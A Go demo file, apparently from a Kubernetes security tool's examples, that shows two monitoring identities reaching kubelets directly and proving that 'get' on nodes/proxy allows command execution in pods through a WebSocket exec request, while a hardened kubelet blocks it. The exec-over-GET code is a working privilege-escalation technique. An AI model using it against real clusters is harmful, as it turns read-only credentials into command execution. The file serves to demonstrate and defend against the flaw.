package demo

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"github.com/gorilla/websocket"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/lanyard-dev/lanyard/examples/stack"
	"github.com/lanyard-dev/lanyard/examples/testimage"
)

// leastPrivilege has two monitoring agents talk to the kubelets themselves.
func leastPrivilege() Scene {
	return Scene{
		Title:  "Two monitoring agents, and what their permission is good for",
		Proves: "nodes/pods is enough to list pods and good for nothing else; get on nodes/proxy runs commands, unless the kubelet hardens its verbs.",
		Play: func(ctx context.Context, s *Stage) error {
			s.say("lister has get on nodes/pods, reader has get on nodes/proxy. Both only mean to read.")
			code, err := s.list(ctx, "lister", "node-1")
			if err != nil {
				return err
			}
			if err := s.check(code == http.StatusOK, "lister lists the pods of node-1"); err != nil {
				return err
			}
			for _, c := range []struct {
				user, node, pod string
				runs            bool
				claim           string
			}{
				{"lister", "node-1", "web", false, "lister cannot run a command"},
				{"reader", "node-1", "web", true, "reader, who may only get, runs one: a WebSocket begins with a GET"},
				{"reader", "node-3", "web-hardened", false, "where the kubelet asks for create, reader cannot"},
			} {
				ran, err := s.execOverGet(ctx, c.user, c.node, c.pod)
				if err != nil {
					return err
				}
				if err := s.check(ran == c.runs, "%s", c.claim); err != nil {
					return err
				}
			}
			code, err = s.list(ctx, "reader", "node-3")
			if err != nil {
				return err
			}
			return s.check(code == http.StatusOK, "and there reader still reads")
		},
	}
}

// list asks a kubelet for its pods, and returns the HTTP status.
func (s *Stage) list(ctx context.Context, user, node string) (int, error) {
	address, config, err := s.direct(ctx, user, node)
	if err != nil {
		return 0, err
	}
	s.say("%s$ curl https://%s/pods", user, node)
	transport := &http.Transport{TLSClientConfig: config}
	defer transport.CloseIdleConnections()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+address+"/pods", nil)
	if err != nil {
		return 0, err
	}
	resp, err := (&http.Client{Transport: transport}).Do(req)
	if err != nil {
		return 0, err
	}
	return resp.StatusCode, resp.Body.Close()
}

// execOverGet tries to run a command through the kubelet with a WebSocket, and
// reports whether it was let in.
func (s *Stage) execOverGet(ctx context.Context, user, node, pod string) (bool, error) {
	address, config, err := s.direct(ctx, user, node)
	if err != nil {
		return false, err
	}
	path := "/exec/default/" + pod + "/app"
	s.say("%s$ websocat 'wss://%s%s?command=%s&output=1'", user, node, path, testimage.Program)
	dialer := websocket.Dialer{TLSClientConfig: config, Subprotocols: []string{"v4.channel.k8s.io"}}
	target := url.URL{Scheme: "wss", Host: address, Path: path, RawQuery: url.Values{"command": {testimage.Program}, "output": {"1"}}.Encode()}
	conn, resp, err := dialer.DialContext(ctx, target.String(), nil)
	if err != nil {
		if resp == nil || resp.StatusCode != http.StatusForbidden {
			return false, err
		}
		s.say("> HTTP %s", resp.Status)
		return false, nil
	}
	defer conn.Close()
	for {
		_, message, err := conn.ReadMessage()
		if err != nil {
			return false, fmt.Errorf("the session ended without a report: %w", err)
		}
		if strings.Contains(string(message), `"pid"`) {
			s.say("> %.60s...", strings.TrimSpace(string(message[1:])))
			return true, nil
		}
	}
}

// direct returns where a kubelet is, and how to reach it as the user.
func (s *Stage) direct(ctx context.Context, user, node string) (string, *tls.Config, error) {
	object, err := s.Stack.Admin().CoreV1().Nodes().Get(ctx, node, metav1.GetOptions{})
	if err != nil {
		return "", nil, err
	}
	config, err := stack.Config(s.Users[user])
	if err != nil {
		return "", nil, err
	}
	pair, err := tls.X509KeyPair(config.CertData, config.KeyData)
	if err != nil {
		return "", nil, err
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(config.CAData)
	address := fmt.Sprintf("%s:%d", object.Status.Addresses[0].Address, object.Status.DaemonEndpoints.KubeletEndpoint.Port)
	return address, &tls.Config{RootCAs: pool, Certificates: []tls.Certificate{pair}}, nil
}
